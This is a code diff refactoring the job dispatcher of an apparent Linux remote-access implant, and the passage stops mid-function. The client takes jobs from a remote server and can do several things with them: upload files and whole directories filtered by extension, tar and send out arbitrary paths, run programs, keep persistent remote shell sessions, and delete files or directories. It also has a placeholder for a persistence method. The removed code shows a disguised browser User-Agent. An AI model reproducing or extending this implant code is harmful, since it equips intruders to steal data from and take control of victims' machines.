@@ -28,350 +28,548 @@
 #include "systemInformation.h"
 #include "stringUtil.h"
 #include "fileTransferService.h"
+#include "transferEngine.h"
+#include "segmentedDownload.h"
 #include "executeCommands.h"
+#include "shellSession.h"
+#include "outputCapture.h"
+#include <array>
+#include <algorithm>
+#include <vector>
 
-bool isJobAvailable(const std::wstring &replyFromServer){
-    
-    std::wstring mode = JsonUtil::json_ExtractValue(replyFromServer, L"mode");
-
-    if((mode.empty() || mode==L"standard") ||
-       (mode!=L"uploadFile"            &&
-        mode!=L"UploadDir"             &&
-        mode!=L"downloadFile"          &&
-        mode!=L"downloadDir"           &&
-        mode!=L"execute"               &&
-        mode!=L"listDir"               &&
-        mode!=L"copy"                  &&
-        mode!=L"deleteFile"            &&
-        mode!=L"compressAndDownload"   &&
-        mode!=L"persist"               &&
-        mode!=L"shell")){
-    
-        return false;
+static constexpr size_t SPILL_CHUNK_SIZE = 64 * 1024;  // Spilled output is read back and sent in chunks of this size
+
+// Queue the response of <job>, tagged with its id (and <sequence> if streamed) so the server can match and order it
+static void pushJobResponse(const Job &job, std::string_view replyType, std::string_view data, SharedResourceManager &sharedResources, uint32_t sequence = 0, bool partial = false){
+    std::string validData;
+    if(!StringUtils::isValidUtf8(data)){                // i.e. binary command output or a file name in another encoding
+        validData = StringUtils::toValidUtf8(data);
+        data = validData;
+    }
+    const std::string jobId = std::to_string(job.id);
+    const std::string seq = std::to_string(sequence);
+    std::vector<std::pair<std::string_view, std::string_view>> members {{replyType, data}};
+    if(job.id != 0){
+        members.emplace_back("jobId", jobId);
+    }
+    if(sequence != 0){
+        members.emplace_back("seq", seq);
     }
-      
-   return true;
+    JobResponse response;
+    response.jobId = job.id;
+    response.json = JsonUtil::json_AppendKeyValues(sharedResources.getSysInfoInJson(), members);     // Encoded and framed by the sender
+    response.priority = jobPriority(job);
+    response.partial = partial;
+    sharedResources.pushResponse(std::move(response));
 }
 
+static bool isStreamed(const Job &job){
+    return job.stream == "true" || job.stream == "1";
+}
 
-void startJob(SharedResourceManager &sharedResources){
-          
-    std::wstring job = sharedResources.popJob();
-    std::wstring request = L"POST / HTTP/1.1\r\nHost: github.com/tajiknomi/ClientHTTP_linux?DataSignal\r\nAccept-Encoding: gzip, deflate, br\r\nUser-Agent: chromium/5.0 (Windows NT 10.0; Win64; x64)\r\nContent-Type: application/octet-stream\r\n";
-    std::wstring dataToSend;
-    std::wstring mode = JsonUtil::json_ExtractValue(job, L"mode");
-    std::error_code ec;
-    std::wstring replyType {L"log"};
-
-
-    if(mode == L"downloadFile"){            
-        std::wstring url             = JsonUtil::json_ExtractValue(job, L"url");
-        std::wstring port            = JsonUtil::json_ExtractValue(job, L"port");
-        std::wstring filePath        = JsonUtil::json_ExtractValue(job, L"filePath");
-        std::wstring destPath        = JsonUtil::json_ExtractValue(job, L"destPath");
-        filePath = ReplaceTildeWithPath(filePath);
-        destPath = ReplaceTildeWithPath(destPath);
-        std::wstring fileName;
-
-        if(fs::is_directory(destPath, ec)){
-            if(hasWritePermissionForDirectory(destPath)){
-                fileName = filePath.substr(filePath.find_last_of(L'/') + 1);        
-                url += L":" + port + L"/" + filePath;
-                if(curlFileTransfer::DownloadFileFromURL(url, destPath)){
-                    dataToSend = fileName + L" downloaded successfully";
-                }
-                else {
-                    dataToSend = fileName + L" didn't downloaded";                
-                }
-            }
-            else{                       // Destination directory doesn't have write permissions
-                dataToSend = destPath + L" doesn't have write permissions";
-            }            
-        }
-        else {
-            dataToSend = destPath + L" doesn't exists";
+// Where the output of a job's command goes. A streamed job turns every chunk into a "partialOutput" response
+// numbered from 1, waiting while the response queue is full (the child blocks on its pipe meanwhile).
+// Other jobs collect it in <capture>
+static executeCommand::OutputSink outputSinkOf(const Job &job, SharedResourceManager &sharedResources, CancelToken &token, JobReply &reply, OutputCapture &capture){
+    if(!isStreamed(job)){
+        return [&capture](const std::string &chunk){ capture.append(chunk); };
+    }
+    return [&job, &sharedResources, &token, &reply](const std::string &chunk){
+        if(sharedResources.waitForResponseSpace(token)){
+            pushJobResponse(job, "partialOutput", chunk, sharedResources, ++reply.sequence, true);
         }
+    };
+}
+
+// Output collected by outputSinkOf(). If it spilled to disk, it is read back from there and sent as "partialOutput"
+// responses, no faster than the response queue drains, and only its head and tail are returned for the reply
+static std::string capturedOutputOf(const Job &job, SharedResourceManager &sharedResources, CancelToken &token, JobReply &reply, const OutputCapture &capture){
+    if(!capture.isSpilled()){
+        return capture.text();
     }
-    else if(mode == L"downloadDir"){
-        std::wstring url             = JsonUtil::json_ExtractValue(job, L"url");
-        std::wstring port            = JsonUtil::json_ExtractValue(job, L"port");
-        std::wstring dirPath         = JsonUtil::json_ExtractValue(job, L"dirPath");
-
-        // Place your implementation here
-    }
-    else if(mode == L"uploadFile"){
-        std::wstring url             = JsonUtil::json_ExtractValue(job, L"url");
-        std::wstring port            = JsonUtil::json_ExtractValue(job, L"port");
-        std::wstring filePath        = JsonUtil::json_ExtractValue(job, L"filePath");
-        filePath = ReplaceTildeWithPath(filePath);
-        const std::wstring fileName = filePath.substr(filePath.find_last_of(L'/') + 1);
-        if(fs::is_regular_file(filePath, ec)){ 
-            url += L":" + port;          
-            if(curlFileTransfer::UploadFileToURL(url, filePath)){
-                dataToSend = filePath + L" uploaded successfully";
-            }
-            else{
-                dataToSend = filePath + L" didn't get uploaded";
-            }
-        }            
-        else {
-            dataToSend = filePath + L" doesn't exists";
+    std::vector<char> buffer(SPILL_CHUNK_SIZE);
+    std::string chunk;
+    size_t offset = 0;
+    while(offset < capture.storedSize() && sharedResources.waitForResponseSpace(token)){
+        const size_t count = capture.read(offset, buffer.data(), buffer.size());
+        if(count == 0){
+            break;
         }
+        offset += count;
+        chunk.append(buffer.data(), count);
+        const size_t length = (offset < capture.storedSize()) ? StringUtils::utf8CompleteLength(chunk) : chunk.size();
+        pushJobResponse(job, "partialOutput", chunk.substr(0, length), sharedResources, ++reply.sequence, true);
+        chunk.erase(0, length);
     }
-    else if(mode == L"UploadDir"){
-        std::wstring url             = JsonUtil::json_ExtractValue(job, L"url");
-        std::wstring port            = JsonUtil::json_ExtractValue(job, L"port");
-        std::wstring dirPath         = JsonUtil::json_ExtractValue(job, L"dirPath");
-        std::wstring fileExtensions  = JsonUtil::json_ExtractValue(job, L"fileExtensions");
-     
-        dirPath = ReplaceTildeWithPath(dirPath);
-        url += L":" + port; 
-        
-        if(fs::is_directory(dirPath, ec)){
-            std::wstring errorMsg;            
-            if(curlFileTransfer::UploadDirectoryToURL(url, dirPath, errorMsg, fileExtensions)){
-                dataToSend = dirPath + L"/ directory uploaded successfully";
+    std::string output = capture.getPreview();
+    output += "\n[" + std::to_string(offset) + " of " + std::to_string(capture.size()) + " bytes sent as partialOutput]";
+    return output;
+}
+
+CancelTokenPtr createCancelToken(const Job &job, std::chrono::seconds defaultTimeout){
+    const std::chrono::seconds limit {MAX_JOB_TIMEOUT_SECS};
+    const std::chrono::seconds timeout = (job.timeoutSecs > 0) ? std::chrono::seconds(std::min(job.timeoutSecs, MAX_JOB_TIMEOUT_SECS)) : std::min(defaultTimeout, limit);
+    if(timeout.count() == 0){
+        return std::make_shared<CancelToken>();
+    }
+    return std::make_shared<CancelToken>(CancelToken::Clock::now() + timeout);
+}
+
+static void runDownloadFile(const Job &job, SharedResourceManager &/*sharedResources*/, CancelToken &token, JobReply &reply){
+    std::error_code ec;
+    std::string url             {job.url};
+    std::string port            {job.port};
+    std::string filePath        {job.filePath};
+    std::string destPath        {job.destPath};
+    filePath = ReplaceTildeWithPath(filePath);
+    destPath = ReplaceTildeWithPath(destPath);
+    std::string fileName;
+
+    if(fs::is_directory(destPath, ec)){
+        if(hasWritePermissionForDirectory(destPath)){
+            fileName = filePath.substr(filePath.find_last_of('/') + 1);        
+            url += ":" + port + "/" + filePath;
+            std::string errorMsg;
+            const size_t segments = (job.segments > 0) ? std::min<uint64_t>(job.segments, SegmentedDownload::MAX_CONNECTIONS) : TransferEngine::getDownloadSegments();
+            if(curlFileTransfer::DownloadFileFromURL(url, destPath, std::string(job.sha256), segments, errorMsg, &token)){
+                reply.data = fileName + " downloaded successfully";
+            }
+            else {
+                reply.data = fileName + " didn't downloaded | errorMsg: " + errorMsg;
             }
-            else{
-                dataToSend = dirPath + L"/ directory didn't get uploaded";
-                dataToSend += L" | errorMsg: " + errorMsg;
-            }                
         }
-        else{
-            dataToSend = dirPath + L" doesn't exist";
+        else{                       // Destination directory doesn't have write permissions
+            reply.data = destPath + " doesn't have write permissions";
         }            
     }
-    else if(mode == L"execute"){
-        std::wstring shellType  = JsonUtil::json_ExtractValue(job, L"shellType");
-        std::wstring exePath    = JsonUtil::json_ExtractValue(job, L"exePath");
-        std::wstring arguments  = JsonUtil::json_ExtractValue(job, L"exeArguments");
-        executeCommand run;
+    else {
+        reply.data = destPath + " doesn't exists";
+    }
+}
 
-        if(shellType.empty()){
-             shellType = L"/bin/sh";
-        } 
-        exePath     = ReplaceTildeWithPath(exePath);
-        arguments   = ReplaceTildeWithPath(arguments);
+static void runDownloadDir(const Job &job, SharedResourceManager &/*sharedResources*/, CancelToken &/*token*/, JobReply &/*reply*/){
+    std::string url             {job.url};
+    std::string port            {job.port};
+    std::string dirPath         {job.dirPath};
 
-        if (!fs::exists(exePath, ec)) {
-            dataToSend = exePath + L" does not exist";
-        }
-        else if(isExecutable(exePath)){                                        
-            dataToSend = run(shellType, exePath, arguments);
-        }     
-        else {dataToSend =  exePath + L" is not executable";}
-    }
-    else if(mode == L"deleteFile"){
-        std::wstring filePath  = JsonUtil::json_ExtractValue(job, L"filePath");
-        if(filePath.empty()){ 
-            dataToSend = L"Couldn't delete: filePath is empty!";
-            
+    // Place your implementation here
+}
+
+static void runUploadFile(const Job &job, SharedResourceManager &/*sharedResources*/, CancelToken &token, JobReply &reply){
+    std::error_code ec;
+    std::string url             {job.url};
+    std::string port            {job.port};
+    std::string filePath        {job.filePath};
+    filePath = ReplaceTildeWithPath(filePath);
+    const std::string fileName = filePath.substr(filePath.find_last_of('/') + 1);
+    if(fs::is_regular_file(filePath, ec)){ 
+        url += ":" + port;          
+        if(curlFileTransfer::UploadFileToURL(url, filePath, &token)){
+            reply.data = filePath + " uploaded successfully";
         }
-        filePath = ReplaceTildeWithPath(filePath);
-        if(fs::is_directory(filePath, ec)){
-            dataToSend = L"Couldn't delete: " + filePath + L" is a directory!";
+        else{
+            reply.data = filePath + " didn't get uploaded";
         }
-        else {           
-            if(fs::exists(filePath, ec)){
-                if(fs::remove(filePath, ec)){
-                    dataToSend = filePath + L" deleted successfully";
-                }
-                else{
-                    dataToSend = L"Unable to deleted " + filePath + L" std::error_code = " + std::to_wstring(ec.value());
-                }
-            }
-            else{
-                dataToSend = filePath + L" does not exist!";
-            }
+    }            
+    else {
+        reply.data = filePath + " doesn't exists";
+    }
+}
+
+static void runUploadDir(const Job &job, SharedResourceManager &/*sharedResources*/, CancelToken &token, JobReply &reply){
+    std::error_code ec;
+    std::string url             {job.url};
+    std::string port            {job.port};
+    std::string dirPath         {job.dirPath};
+    std::string fileExtensions  {job.fileExtensions};
+ 
+    dirPath = ReplaceTildeWithPath(dirPath);
+    url += ":" + port; 
+    
+    if(fs::is_directory(dirPath, ec)){
+        std::string errorMsg;            
+        std::string report;
+        if(curlFileTransfer::UploadDirectoryToURL(url, dirPath, errorMsg, fileExtensions, report, &token)){
+            reply.data = dirPath + "/ directory uploaded successfully | " + report;
         }
+        else{
+            reply.data = dirPath + "/ directory didn't get uploaded";
+            reply.data += " | errorMsg: " + errorMsg + " | " + report;
+        }                
+    }
+    else{
+        reply.data = dirPath + " doesn't exist";
     }
-    else if(mode == L"removeDir"){
-        std::wstring dirPath  = JsonUtil::json_ExtractValue(job, L"dirPath");             
-        dirPath = ReplaceTildeWithPath(dirPath);
+}
+
+static void runExecute(const Job &job, SharedResourceManager &sharedResources, CancelToken &token, JobReply &reply){
+    std::error_code ec;
+    std::string shellType  {job.shellType};
+    std::string exePath    {job.exePath};
+    std::string arguments  {job.exeArguments};
+    executeCommand run;
 
-        if(fs::is_directory(dirPath, ec)){
-            if(fs::remove_all(dirPath, ec)){
-                dataToSend = dirPath + L" removed successfully";
+    if(shellType.empty()){
+         shellType = "/bin/sh";
+    } 
+    exePath     = ReplaceTildeWithPath(exePath);
+    arguments   = ReplaceTildeWithPath(arguments);
+
+    if (!job.argvValid) {                                  // Running with part of the arguments could do anything
+        reply.data = "argv must be an array of strings";
+    }
+    else if (!fs::exists(exePath, ec)) {
+        reply.data = exePath + " does not exist";
+    }
+    else if(isExecutable(exePath) && !job.argv.empty()){   // Real argument vector, no shell in between
+        std::vector<std::string> argv {exePath};
+        argv.insert(argv.end(), job.argv.begin(), job.argv.end());
+        OutputCapture capture(sharedResources.getOutputMemoryLimit());
+        const std::string status = run(argv, &token, outputSinkOf(job, sharedResources, token, reply, capture));
+        reply.data = capturedOutputOf(job, sharedResources, token, reply, capture) + status;
+    }
+    else if(isExecutable(exePath)){                                        
+        OutputCapture capture(sharedResources.getOutputMemoryLimit());
+        const std::string status = run(shellType, exePath, arguments, &token, outputSinkOf(job, sharedResources, token, reply, capture));
+        reply.data = capturedOutputOf(job, sharedResources, token, reply, capture) + status;
+    }     
+    else {reply.data =  exePath + " is not executable";}
+}
+
+static void runDeleteFile(const Job &job, SharedResourceManager &/*sharedResources*/, CancelToken &/*token*/, JobReply &reply){
+    std::error_code ec;
+    std::string filePath  {job.filePath};
+    if(filePath.empty()){ 
+        reply.data = "Couldn't delete: filePath is empty!";
+        
+    }
+    filePath = ReplaceTildeWithPath(filePath);
+    if(fs::is_directory(filePath, ec)){
+        reply.data = "Couldn't delete: " + filePath + " is a directory!";
+    }
+    else {           
+        if(fs::exists(filePath, ec)){
+            if(fs::remove(filePath, ec)){
+                reply.data = filePath + " deleted successfully";
             }
             else{
-                dataToSend = L"Unable to remove " + dirPath + L" std::error_code = " + std::to_wstring(ec.value());
+                reply.data = "Unable to deleted " + filePath + " std::error_code = " + std::to_string(ec.value());
             }
         }
         else{
-            dataToSend = dirPath + L" is not a directory";
-        }       
-    }
-    else if(mode == L"listDir"){
-        std::wstring dirInfo{L"{\"files\":["};
-        std::wstring dirToList   = JsonUtil::json_ExtractValue(job, L"dirToList");        
-        if(dirToList.empty()){
-            dirToList = L"/home/" + SysInformation::getUserName();   // Default is home directory, also try to find the home directory of user with another method if not found here
-        }
-        dirToList = ReplaceTildeWithPath(dirToList);
-        if (!dirToList.empty() && dirToList.back() != L'/' && dirToList.back() != L'\\') {
-            dirToList += L'/';
-        }
-        if(!fs::is_directory(dirToList, ec)){                 // Is this a Directory ?
-            dataToSend = dirToList + L" is not a directory";          
-        }
-        else if(fs::is_empty(dirToList, ec)){                 // Is Directory Empty ?
-                dataToSend =  dirToList + L" is empty!";               
-        }
-        else {                                               // This is NOT an EMPTY Directory, continue here
-            std::vector<std::wstring> fileList_json;
-            std::wstring drive {L""};                // Add a drive full path here i.e. /, C:/, D:/, F:/            
-            auto it = fs::directory_iterator(dirToList, fs::directory_options::skip_permission_denied, ec);            
-            for (auto i = fs::begin(it); i != fs::end(it); i.increment(ec)) {          
-                auto entry = *i;                
-                if(fs::is_symlink(entry, ec)){                    
-                    continue;
-                }
-                fileList_json.push_back(L"name");
-                std::wstring path {entry.path().wstring()};
-                std::wstring filename{ StringUtils::extractFilename(path) };
-                std::wstring sizeInBytes;
-
-                if(fs::is_directory(path, ec)){
-                    fileList_json.push_back(filename+L"/");
-                    // size_t directorySize = calculateDirectorySize(path);          // THIS CONSUMES TOO MUCH TIME, NOT EFFICIENT !!!
-                    // if (directorySize == static_cast<size_t>(-1)) { sizeInBytes = "N/A"; }                    
-                    // else { sizeInBytes = std::to_string(directorySize); }
-                    sizeInBytes = L"N/A";                    
-                }
-                else {
-                    fileList_json.push_back(filename);
-                    sizeInBytes = std::to_wstring (fs::file_size(path, ec));                    
-                }                                        
-                fileList_json.push_back(L"size");
-                fileList_json.push_back(sizeInBytes);
-                dirInfo.append(JsonUtil::to_json(fileList_json));
-                dirInfo.append(L",");
-                fileList_json.clear(); 
-            }
-                dirInfo.pop_back();
-                dirInfo.append(L"],\"dirToList\":[\"");
-                dirInfo.append(dirToList);
-                dirInfo.append(L"\"],");             
-                dirInfo.append(L"\"drive\":[\"");
-                dirInfo.append(drive);
-                dirInfo.append(L"\"]}");                
-                dataToSend =  dirInfo;
-                replyType = L"dirList";                                                  
+            reply.data = filePath + " does not exist!";
         }
     }
-    else if(mode == L"copy"){
-        const std::wstring sourcePath {JsonUtil::json_ExtractValue(job, L"sourcePath")};
-        const std::wstring destPath {JsonUtil::json_ExtractValue(job, L"destPath")};
+}
 
-        if(sourcePath.empty() || destPath.empty()){ 
-            dataToSend = L"Either source or destination is empty!";
+static void runRemoveDir(const Job &job, SharedResourceManager &/*sharedResources*/, CancelToken &/*token*/, JobReply &reply){
+    std::error_code ec;
+    std::string dirPath  {job.dirPath};             
+    dirPath = ReplaceTildeWithPath(dirPath);
+
+    if(fs::is_directory(dirPath, ec)){
+        if(fs::remove_all(dirPath, ec)){
+            reply.data = dirPath + " removed successfully";
         }
-        else if(!fs::is_directory(destPath, ec)){           // Verify that the destination is a directory
-            dataToSend = destPath + L" is not a directory!";
+        else{
+            reply.data = "Unable to remove " + dirPath + " std::error_code = " + std::to_string(ec.value());
         }
-        else {                                                  // Destination is a directory   
-            if(fs::is_directory(sourcePath, ec)){           // Copy directory
-                const std::wstring Dirname {ExtractLastDirectoryName(sourcePath)};   // Extract directory name from sourcePath
-                if(fs::exists(destPath+L"/"+Dirname, ec)){    // if directory to be copied already exist at destination
-                    dataToSend = sourcePath + L" already exist in the " + destPath;
-                }
-                else {
-                    const auto copyOptions = fs::copy_options::skip_symlinks | fs::copy_options::recursive;                   
-                    fs::copy(sourcePath, destPath+L"/"+Dirname, copyOptions, ec);
-                    if(ec) { dataToSend = mode + L" " + StringUtils::s2ws(ec.message()); }
-                    else {dataToSend = sourcePath + L" is copied to " + destPath + L" successfully"; } 
-                }
+    }
+    else{
+        reply.data = dirPath + " is not a directory";
+    }
+}
+
+static void runListDir(const Job &job, SharedResourceManager &/*sharedResources*/, CancelToken &/*token*/, JobReply &reply){
+    std::error_code ec;
+    std::string dirInfo{"{\"files\":["};
+    std::string dirToList   {job.dirToList};        
+    if(dirToList.empty()){
+        dirToList = "/home/" + SysInformation::getUserName();   // Default is home directory, also try to find the home directory of user with another method if not found here
+    }
+    dirToList = ReplaceTildeWithPath(dirToList);
+    if (!dirToList.empty() && dirToList.back() != '/' && dirToList.back() != '\\') {
+        dirToList += '/';
+    }
+    if(!fs::is_directory(dirToList, ec)){                 // Is this a Directory ?
+        reply.data = dirToList + " is not a directory";          
+    }
+    else if(fs::is_empty(dirToList, ec)){                 // Is Directory Empty ?
+            reply.data =  dirToList + " is empty!";               
+    }
+    else {                                               // This is NOT an EMPTY Directory, continue here
+        std::vector<std::string> fileList_json;
+        std::string drive {""};                // Add a drive full path here i.e. /, C:/, D:/, F:/            
+        auto it = fs::directory_iterator(dirToList, fs::directory_options::skip_permission_denied, ec);            
+        for (auto i = fs::begin(it); i != fs::end(it); i.increment(ec)) {          
+            auto entry = *i;                
+            if(fs::is_symlink(entry, ec)){                    
+                continue;
             }
-            else {                                          // Copy file
-                const std::wstring filename {sourcePath.substr(sourcePath.find_last_of(L'/') + 1)};   // Extract file name from the sourcePath
-                if(fs::exists(destPath + L"/" + filename, ec)){  // if file to be copied already exist at destination
-                    dataToSend = destPath + L"/" + filename + L" already exist in the " + destPath;
-                }
-                else{
-                    const auto copyOptions = fs::copy_options::skip_symlinks | fs::copy_options::skip_existing;                          
-                    fs::copy_file(sourcePath, destPath + L"/" + filename, copyOptions, ec);
-                    if(ec) { dataToSend = mode + L" " + StringUtils::s2ws(ec.message()); }
-                    else {dataToSend = sourcePath + L" is copied to " + destPath + L" successfully"; } 
-                }
-            }               
+            fileList_json.push_back("name");
+            std::string path {entry.path().string()};
+            std::string filename{ StringUtils::extractFilename(path) };
+            std::string sizeInBytes;
+
+            if(fs::is_directory(path, ec)){
+                fileList_json.push_back(filename+"/");
+                // size_t directorySize = calculateDirectorySize(path);          // THIS CONSUMES TOO MUCH TIME, NOT EFFICIENT !!!
+                // if (directorySize == static_cast<size_t>(-1)) { sizeInBytes = "N/A"; }                    
+                // else { sizeInBytes = std::to_string(directorySize); }
+                sizeInBytes = "N/A";                    
+            }
+            else {
+                fileList_json.push_back(filename);
+                sizeInBytes = std::to_string (fs::file_size(path, ec));                    
+            }                                        
+            fileList_json.push_back("size");
+            fileList_json.push_back(sizeInBytes);
+            dirInfo.append(JsonUtil::to_json(fileList_json));
+            dirInfo.append(",");
+            fileList_json.clear(); 
         }
+            dirInfo.pop_back();
+            dirInfo.append("],\"dirToList\":[\"");
+            dirInfo.append(dirToList);
+            dirInfo.append("\"],");             
+            dirInfo.append("\"drive\":[\"");
+            dirInfo.append(drive);
+            dirInfo.append("\"]}");                
+            reply.data =  dirInfo;
+            reply.type = "dirList";                                                  
     }
-    else if(mode == L"compressAndDownload"){
-        std::wstring url         = JsonUtil::json_ExtractValue(job, L"url");
-        std::wstring port        = JsonUtil::json_ExtractValue(job, L"port");
-        std::wstring path        = JsonUtil::json_ExtractValue(job, L"path");
+}
 
-        const std::wstring shellType {L"/bin/sh"};
-        std::wstring archivePath = path;
-        std::wstring filename = StringUtils::extractFilename(path);
-        if((archivePath.back() == L'/') || (archivePath.back() == L'\\')){
-            archivePath.pop_back();
-        }
-        const std::wstring compressionTool {L"tar"};
-        std::wstring args {L"-czf " + std::wstring(L"\"") + archivePath + L".tar.gz\""};
-        if(fs::is_directory(path)){
-            // For directory --> tar -czf "archivePath.tar.gz" -C "path/to/dir" .
-            args += std::wstring(L" -C ") + std::wstring(L"\"") + path + L"\" .";
-        }
-        else{
-            // For file --> tar -czf "path/to/dir/file.tar.gz" -C "path/to/dir" "filename"                   
-            args += std::wstring(L" -C \"") + archivePath.substr(0, archivePath.size()-filename.size()) + std::wstring(L"\" \"") + filename + L"\"";
-        }
-        executeCommand run;
-        const std::wstring output = run(shellType, compressionTool, args);     // Archive/Compress it
-        archivePath.append(L".tar.gz");
-        if(output.find(L"status: 0") != std::wstring::npos){
-            url += L":" + port;            
-            if(curlFileTransfer::UploadFileToURL(url, archivePath)){ dataToSend = archivePath + L" uploaded successfully"; }                           
-            else{ dataToSend = archivePath + L" didn't get uploaded"; }                            
-        }
-        else { 
-            dataToSend = output;
-        }
-        if(!fs::remove(archivePath, ec)){
-            dataToSend = archivePath + L" uploaded successfully but NOT deleted: " + StringUtils::s2ws(ec.message());
-        }                               
-    }
-    else if (mode == L"shell") {
-        std::wstring RecievedCommand{ JsonUtil::json_ExtractValue(job, L"command") };
-        RecievedCommand = ReplaceTildeWithPath(RecievedCommand);
-        std::wstring cd{ JsonUtil::json_ExtractValue(job, L"cd") };
-        cd = ReplaceTildeWithPath(cd);
-        static fs::path currentPath = fs::current_path();
-        
-        if (!(cd.empty())) {
-            std::wstring newDir = changeDir(cd, ec);          
-            if (newDir.empty()) {
-                dataToSend = currentPath.wstring();
+static void runCopy(const Job &job, SharedResourceManager &/*sharedResources*/, CancelToken &/*token*/, JobReply &reply){
+    std::error_code ec;
+    const std::string sourcePath {job.sourcePath};
+    const std::string destPath {job.destPath};
+
+    if(sourcePath.empty() || destPath.empty()){ 
+        reply.data = "Either source or destination is empty!";
+    }
+    else if(!fs::is_directory(destPath, ec)){           // Verify that the destination is a directory
+        reply.data = destPath + " is not a directory!";
+    }
+    else {                                                  // Destination is a directory   
+        if(fs::is_directory(sourcePath, ec)){           // Copy directory
+            const std::string Dirname {ExtractLastDirectoryName(sourcePath)};   // Extract directory name from sourcePath
+            if(fs::exists(destPath+"/"+Dirname, ec)){    // if directory to be copied already exist at destination
+                reply.data = sourcePath + " already exist in the " + destPath;
             }
             else {
-                dataToSend = newDir;
-                currentPath = newDir;           
-            }            
+                const auto copyOptions = fs::copy_options::skip_symlinks | fs::copy_options::recursive;                   
+                fs::copy(sourcePath, destPath+"/"+Dirname, copyOptions, ec);
+                if(ec) { reply.data = std::string(job.modeName) + " " + ec.message(); }
+                else {reply.data = sourcePath + " is copied to " + destPath + " successfully"; } 
+            }
         }
-        else {          
-            if(!RecievedCommand.empty()){
-            std::wstring command = L"/bin/sh -c cd \"" + currentPath.wstring() + L"\" && " + RecievedCommand;
-            std::wstring emptyString;
-            executeCommand run;
-            dataToSend = run(L"/bin/sh", command, emptyString);
+        else {                                          // Copy file
+            const std::string filename {sourcePath.substr(sourcePath.find_last_of('/') + 1)};   // Extract file name from the sourcePath
+            if(fs::exists(destPath + "/" + filename, ec)){  // if file to be copied already exist at destination
+                reply.data = destPath + "/" + filename + " already exist in the " + destPath;
+            }
+            else{
+                const auto copyOptions = fs::copy_options::skip_symlinks | fs::copy_options::skip_existing;                          
+                fs::copy_file(sourcePath, destPath + "/" + filename, copyOptions, ec);
+                if(ec) { reply.data = std::string(job.modeName) + " " + ec.message(); }
+                else {reply.data = sourcePath + " is copied to " + destPath + " successfully"; } 
+            }
+        }               
+    }
+}
+
+static void runCompressAndDownload(const Job &job, SharedResourceManager &/*sharedResources*/, CancelToken &token, JobReply &reply){
+    std::error_code ec;
+    std::string url         {job.url};
+    std::string port        {job.port};
+    std::string path        {job.path};
+
+    std::string archivePath = path;
+    std::string filename = StringUtils::extractFilename(path);
+    if((archivePath.back() == '/') || (archivePath.back() == '\\')){
+        archivePath.pop_back();
+    }
+    // Passed to tar as is, so paths need no quoting
+    std::vector<std::string> argv {"tar", "-czf", archivePath + ".tar.gz", "-C"};
+    if(fs::is_directory(path)){
+        // For directory --> tar -czf archivePath.tar.gz -C path/to/dir .
+        argv.push_back(path);
+        argv.push_back(".");
+    }
+    else{
+        // For file --> tar -czf path/to/dir/file.tar.gz -C path/to/dir filename
+        argv.push_back(archivePath.substr(0, archivePath.size()-filename.size()));
+        argv.push_back(filename);
+    }
+    executeCommand run;
+    const std::string output = run(argv, &token);     // Archive/Compress it
+    archivePath.append(".tar.gz");
+    if(output.find("status: 0") != std::string::npos){
+        url += ":" + port;            
+        if(curlFileTransfer::UploadFileToURL(url, archivePath, &token)){ reply.data = archivePath + " uploaded successfully"; }                           
+        else{ reply.data = archivePath + " didn't get uploaded"; }                            
+    }
+    else { 
+        reply.data = output;
+    }
+    if(!fs::remove(archivePath, ec)){
+        reply.data = archivePath + " uploaded successfully but NOT deleted: " + ec.message();
+    }
+}
+
+static void runShell(const Job &job, SharedResourceManager &sharedResources, CancelToken &token, JobReply &reply){
+    reply.type = "shellResponse";
+    const std::string cd {ReplaceTildeWithPath(std::string(job.cd))};
+    if(cd.empty() && job.command.empty()){
+        return;
+    }
+    // Every session keeps its own shell, so its directory and variables survive between commands
+    const std::string sessionId = job.session.empty() ? std::string("default") : std::string(job.session);
+    std::string error;
+    const std::shared_ptr<ShellSession> session = sharedResources.getShellSessions().acquire(sessionId, error);
+    if(!session){
+        reply.data = "shell session " + std::string(sessionId) + ": " + std::string(error);
+        return;
+    }
+    int exitStatus = -1;
+    if(!cd.empty()){                                    // Answer with the new (or unchanged) directory
+        const std::string newDir = session->run("cd -- " + ShellSession::quote(cd) + " 2>/dev/null; pwd", &token, nullptr, exitStatus);
+        reply.data = newDir.substr(0, newDir.find_last_not_of('\n') + 1);
+        return;
+    }
+    OutputCapture capture(sharedResources.getOutputMemoryLimit());
+    session->run(std::string(job.command), &token, outputSinkOf(job, sharedResources, token, reply, capture), exitStatus);
+    reply.data = capturedOutputOf(job, sharedResources, token, reply, capture);
+    if(exitStatus >= 0){
+        reply.data += " | Child process exited with status: " + std::to_string(exitStatus);
+    }
+    else if(!session->isAlive()){
+        reply.data += " | shell session " + std::string(sessionId) + " ended";
+    }
+}
+
+static void runPersist(const Job &job, SharedResourceManager &/*sharedResources*/, CancelToken &/*token*/, JobReply &/*reply*/){
+    std::string method         {job.method};  
+    // Implement your persistance method(s) here
+}
+
+static void runCancel(const Job &job, SharedResourceManager &sharedResources, CancelToken &/*token*/, JobReply &reply){
+    const std::string target = std::to_string(job.cancelJobId);
+    const CancelTokenPtr targetToken = (job.cancelJobId != 0) ? sharedResources.findJob(job.cancelJobId) : nullptr;
+    if(targetToken){
+        targetToken->cancel();
+        reply.data = "job " + target + " cancelled";
+    }
+    else{
+        reply.data = "job " + target + " is not queued or running";
+    }
+}
+
+// Every mode the client accepts, looked up through a perfect hash built at compile time.
+// Registering a mode here is all it takes, acceptance and dispatch use the same entry
+static constexpr JobHandler jobHandlers[] = {
+    // mode                   priority               inline  run
+    {"uploadFile",           Priority::Bulk,        false,  runUploadFile},
+    {"UploadDir",            Priority::Bulk,        false,  runUploadDir},
+    {"downloadFile",         Priority::Bulk,        false,  runDownloadFile},
+    {"downloadDir",          Priority::Bulk,        false,  runDownloadDir},
+    {"compressAndDownload",  Priority::Bulk,        false,  runCompressAndDownload},
+    {"execute",              Priority::Normal,      false,  runExecute},
+    {"copy",                 Priority::Normal,      false,  runCopy},
+    {"persist",              Priority::Normal,      false,  runPersist},
+    {"listDir",              Priority::Interactive, false,  runListDir},
+    {"deleteFile",           Priority::Interactive, false,  runDeleteFile},
+    {"removeDir",            Priority::Interactive, false,  runRemoveDir},
+    {"shell",                Priority::Interactive, false,  runShell},
+    {"cancel",               Priority::Interactive, true,   runCancel}
+};
+
+constexpr size_t HANDLER_COUNT = sizeof(jobHandlers) / sizeof(jobHandlers[0]);
+constexpr size_t HANDLER_SLOTS = 32;                // Power of two, at least twice the number of handlers
+
+// FNV-1a, <seed> is searched at compile time so that no two modes share a slot
+static constexpr uint32_t modeHash(std::string_view mode, uint32_t seed){
